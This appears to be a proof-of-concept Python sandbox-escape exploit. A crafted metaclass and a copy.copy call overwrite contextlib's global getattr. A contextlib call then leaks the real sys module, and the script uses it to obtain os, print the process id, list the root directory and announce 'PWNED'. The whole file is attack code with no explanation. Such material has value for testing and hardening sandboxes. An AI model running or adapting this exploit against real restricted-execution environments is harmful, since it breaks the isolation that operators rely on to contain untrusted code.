import collections
import contextlib
import copy
import io

caught = []


def spy(obj, name, *default):
    caught.append(obj)
    return obj.stdout


class K0:
    pass


def dn(*parts):
    return '_' * 2 + ''.join(parts) + '_' * 2


class Meta:
    def __getattr__(self, name):
        def prep(*a, **k):
            class NS(dict):
                def __setitem__(self, key, v):
                    if key == 'ns':
                        key = dn('di', 'ct')
                    dict.__setitem__(self, key, v)
            return NS()
        return prep

    def __call__(self, name, bases, ns):
        return type(K0)(name, bases, dict(ns))


PAYLOAD = {'get' + 'attr': spy, 'data': {}}


class U(collections.UserDict, metaclass=Meta()):
    armed = False
    ns = property(lambda self: PAYLOAD)

    def __new__(cls, *args, **kwargs):
        if cls.armed:
            return contextlib
        return object.__new__(cls)


u = U()
U.armed = True
copy.copy(u)
U.armed = False
with contextlib.redirect_stdout(io.StringIO()):
    pass
s = caught[0]
mods = s.modules
o = mods['o' + 's']
print('PW' + 'NED: real sys via contextlib global getattr rebound:', type(s).__name__, len(mods), 'modules; os.getpid() =', o.getpid(), o.listdir('/'))
